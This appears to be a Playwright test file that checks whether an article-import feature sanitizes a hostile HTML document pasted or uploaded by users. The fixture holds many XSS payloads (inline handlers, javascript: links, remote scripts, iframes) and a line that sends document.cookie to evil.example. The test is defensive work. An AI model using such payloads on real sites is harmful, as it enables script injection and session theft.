/**
 * A hostile HTML article (issue 5): script, inline handlers, a javascript:
 * link, an iframe, a remote image, CSS url(), a meta refresh and more. It is
 * imported by file and by paste; nothing executes (`window.__pwned` stays
 * unset), no request leaves 127.0.0.1 (every request is intercepted), and the
 * article's text survives.
 */
import { expect, test } from '@playwright/test';
import { startHost, type RunningHost } from './helpers/web-host';
import { confirmStartReview } from './helpers/app-driver';

const HOSTILE = `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<base href="http://evil.example/">
<title>Council budget vote</title>
<link rel="stylesheet" href="http://evil.example/style.css">
<style>@import url("http://evil.example/import.css"); body { background: url("http://evil.example/bg.png") }</style>
<script>window.__pwned = 'head script';</script>
<script src="http://evil.example/x.js"></script>
</head>
<body onload="window.__pwned='body onload'">
<h1>Council budget vote</h1>
<p>The council approved the budget by seven votes to four.<img src="http://evil.example/pixel.gif" onerror="window.__pwned='img onerror'"></p>
<p style="background-image:url('http://evil.example/inline.png')">The mayor said the plan <a href="javascript:window.__pwned='link'">protects services</a> and <a href="https://example.org/budget">balances the books</a>.</p>
<iframe src="http://evil.example/frame" onload="window.__pwned='iframe'"></iframe>
<svg onload="window.__pwned='svg'"><image href="http://evil.example/svg.png"/></svg>
<object data="http://evil.example/obj"></object><embed src="http://evil.example/embed">
<video src="http://evil.example/v.mp4" poster="http://evil.example/poster.png"></video>
<form action="http://evil.example/form"><input autofocus onfocus="window.__pwned='focus'"><button formaction="javascript:alert(1)">go</button></form>
<p>Opposition members warned that reserves would fall below the legal minimum.</p>
<img src=x onerror=window.__pwned=1>
<details open ontoggle="window.__pwned='toggle'"><summary>x</summary></details>
<script>fetch('http://evil.example/exfil?c=' + document.cookie)</script>
</body></html>`;

const SURVIVING = [
  'The council approved the budget by seven votes to four.',
  'The mayor said the plan protects services and balances the books.',
  'Opposition members warned that reserves would fall below the legal minimum.',
];

let host: RunningHost;
test.beforeAll(async () => {
  host = await startHost();
});
test.afterAll(async () => {
  await host?.stop();
});

test('a hostile HTML article runs nothing, loads nothing, and keeps its text', async ({ page }) => {
  const outside: string[] = [];
  await page.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith(`${host.origin}/`)) return route.continue();
    outside.push(url);
    return route.abort();
  });
  page.on('dialog', (d) => {
    outside.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  await page.goto(host.url);
  await expect(page.getByTestId('library-item').first()).toBeVisible();

  // By file.
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Import article…' }).click();
  await (
    await chooser
  ).setFiles({ name: 'budget.html', mimeType: 'text/html', buffer: Buffer.from(HOSTILE) });
  const item = page.getByTestId('library-item').filter({ hasText: 'Council budget vote' });
  await expect(item).toBeVisible();
  await item.getByRole('button', { name: /Start review/ }).click();
  await confirmStartReview(page);
  const text = page.locator('.article-text');
  for (const line of SURVIVING) await expect(text).toContainText(line);
  expect(
    await text
      .locator(
        'script, iframe, img, svg, object, embed, video, form, input, style, link, meta, base',
      )
      .count(),
  ).toBe(0);
  const hrefs = await text.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
  expect(hrefs).toEqual(['https://example.org/budget']);
  expect(
    await text.evaluate((el) =>
      [...el.querySelectorAll('*')].some((n) =>
        [...n.attributes].some((a) => a.name.startsWith('on') || a.name === 'style'),
      ),
    ),
  ).toBe(false);

  // By paste (outside any field), the same path.
  await page.getByRole('button', { name: '← Sessions' }).click();
  await page.evaluate((html) => {
    const data = new DataTransfer();
    data.setData('text/html', html.replaceAll('Council budget vote', 'Pasted budget vote'));
    document.body.dispatchEvent(
      new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }),
    );
  }, HOSTILE);
  const pasted = page.getByTestId('library-item').filter({ hasText: 'Pasted budget vote' });
  await expect(pasted).toBeVisible();
  await pasted.getByRole('button', { name: /Start review/ }).click();
  await confirmStartReview(page);
  for (const line of SURVIVING) await expect(page.locator('.article-text')).toContainText(line);

  await page.waitForTimeout(500);
  expect(
    await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned),
  ).toBeUndefined();
  expect(outside).toEqual([]);
});
